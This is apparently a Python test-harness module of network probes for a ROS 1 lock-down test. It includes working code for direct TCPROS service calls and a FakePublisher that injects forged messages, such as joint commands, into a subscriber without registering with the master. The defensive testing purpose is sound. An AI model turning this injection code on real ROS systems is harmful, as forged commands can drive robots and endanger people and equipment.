"""What a host on the link can do to a ROS graph without the master's help: the probes of the
lock-down test (item 5), written against ROS 1's wire protocols (XML-RPC, TCPROS).

Run them inside a namespace with RosBed.call_in(host, ...), so their sockets live there:

    xmlrpc_call(uri, method, *args, timeout_s=2.0)   an XML-RPC call that gives up in time
    tcp_connects(address, port)                      -> True / False (within timeout_s)
    call_service(rosrpc_uri, name, srv_class, request)   a direct TCPROS service call
    publisher = rb.call_in('intruder', FakePublisher, address, topic, JointCommand)
    rb.call_in('intruder', publisher.announce, subscriber_xmlrpc_uri)   # publisherUpdate
    publisher.wait_connected(5); publisher.publish(msg)

FakePublisher is what an attacker needs to feed a subscriber: it never registers with the
master; it tells the subscriber node directly (publisherUpdate on the node's XML-RPC port) that
it publishes the topic, answers requestTopic, and serves TCPROS to the subscriber's connection.
Everything raises OSError (or socket.timeout) when the network refuses or drops the packets.
"""
import io
import socket
import struct
import threading
import urllib.parse
import xmlrpc.client
from xmlrpc.server import SimpleXMLRPCServer


CALLER_ID = '/netbed_probe'


class TimeoutTransport(xmlrpc.client.Transport):
    """XML-RPC transport whose connections give up after timeout_s."""

    def __init__(self, timeout_s):
        super().__init__()
        self._timeout_s = timeout_s

    def make_connection(self, host):
        conn = super().make_connection(host)
        conn.timeout = self._timeout_s
        return conn


def xmlrpc_call(uri, method, *args, timeout_s=2.0):
    """Call an XML-RPC method (in the calling thread's namespace); raise OSError on failure."""
    proxy = xmlrpc.client.ServerProxy(uri, transport=TimeoutTransport(timeout_s))
    return getattr(proxy, method)(*args)


def tcp_connects(address, port, timeout_s=1.5):
    """Return True when a TCP connection to address:port opens within timeout_s."""
    try:
        with socket.create_connection((address, port), timeout=timeout_s):
            return True
    except OSError:
        return False


def encode_header(fields):
    """Return a TCPROS connection header (4-byte length, then length-prefixed key=value)."""
    items = [('%s=%s' % kv).encode() for kv in fields.items()]
    body = b''.join(struct.pack('<I', len(item)) + item for item in items)
    return struct.pack('<I', len(body)) + body


def _recv_exact(sock, n_bytes):
    data = b''
    while len(data) < n_bytes:
        chunk = sock.recv(n_bytes - len(data))
        if not chunk:
            raise ConnectionError('connection closed by peer')
        data += chunk
    return data


def read_header(sock):
    """Read a TCPROS connection header; return its fields as a dict."""
    (length,) = struct.unpack('<I', _recv_exact(sock, 4))
    body = _recv_exact(sock, length)
    fields, pos = {}, 0
    while pos < len(body):
        (n,) = struct.unpack('<I', body[pos:pos + 4])
        key, _, value = body[pos + 4:pos + 4 + n].decode().partition('=')
        fields[key] = value
        pos += 4 + n
    return fields


def serialize(msg):
    buf = io.BytesIO()
    msg.serialize(buf)
    return buf.getvalue()


def call_service(rosrpc_uri, service, srv_class, request, timeout_s=2.0):
    """Call a ROS service directly over TCPROS (no master); return the response message.

    Raises:
        OSError: no connection, or the service answered with an error.
    """
    parsed = urllib.parse.urlparse(rosrpc_uri)
    with socket.create_connection((parsed.hostname, parsed.port), timeout=timeout_s) as sock:
        sock.sendall(encode_header({'callerid': CALLER_ID, 'service': service,
                                    'md5sum': srv_class._md5sum, 'persistent': '0'}))
        header = read_header(sock)
        if 'error' in header:
            raise OSError('service %s refused the connection: %s' % (service, header['error']))
        data = serialize(request)
        sock.sendall(struct.pack('<I', len(data)) + data)
        ok = _recv_exact(sock, 1)[0]
        (length,) = struct.unpack('<I', _recv_exact(sock, 4))
        body = _recv_exact(sock, length)
        if not ok:
            raise OSError('service %s failed: %s' % (service, body.decode(errors='replace')))
        return srv_class._response_class().deserialize(body)


class FakePublisher:
    """A TCPROS publisher of one topic that never registers with the master.

    Construct it inside the attacker's namespace (its servers bind to `address` there).
    """

    def __init__(self, address, topic, msg_class):
        self.topic = topic
        self._msg_class = msg_class
        self._conn = None
        self._connected = threading.Event()
        self._tcp = socket.socket()
        self._tcp.bind((address, 0))
        self._tcp.listen(4)
        self._rpc = SimpleXMLRPCServer((address, 0), logRequests=False, allow_none=True)
        self._rpc.register_function(self._request_topic, 'requestTopic')
        self.uri = 'http://%s:%d/' % (address, self._rpc.server_address[1])
        self._address = address
        threading.Thread(target=self._rpc.serve_forever, daemon=True).start()
        threading.Thread(target=self._accept, daemon=True).start()

    def _request_topic(self, _caller_id, topic, _protocols):
        if topic != self.topic:
            return [0, 'not a publisher of %s' % topic, []]
        return [1, 'ready', ['TCPROS', self._address, self._tcp.getsockname()[1]]]

    def _accept(self):
        try:
            conn, _ = self._tcp.accept()
            conn.settimeout(5.0)
            read_header(conn)  # the subscriber's: callerid, topic, md5sum, type
            conn.sendall(encode_header({
                'callerid': CALLER_ID, 'topic': self.topic, 'type': self._msg_class._type,
                'md5sum': self._msg_class._md5sum, 'latching': '0',
                'message_definition': self._msg_class._full_text}))
            self._conn = conn
            self._connected.set()
        except OSError:
            pass  # closed before anyone connected

    def announce(self, subscriber_uri, timeout_s=1.5):
        """Tell a subscriber node (its XML-RPC URI) that this publishes the topic; raise
        OSError when the node cannot be reached."""
        code, message, _ = xmlrpc_call(subscriber_uri, 'publisherUpdate', CALLER_ID, self.topic,
                                       [self.uri], timeout_s=timeout_s)
        if code != 1:
            raise OSError('publisherUpdate refused: %s' % message)

    def wait_connected(self, timeout_s):
        """Return True once the subscriber has connected for the messages."""
        return self._connected.wait(timeout_s)

    def publish(self, msg):
        data = serialize(msg)
        self._conn.sendall(struct.pack('<I', len(data)) + data)

    def close(self):
        self._rpc.shutdown()
        self._rpc.server_close()
        self._tcp.close()
        if self._conn is not None:
            self._conn.close()
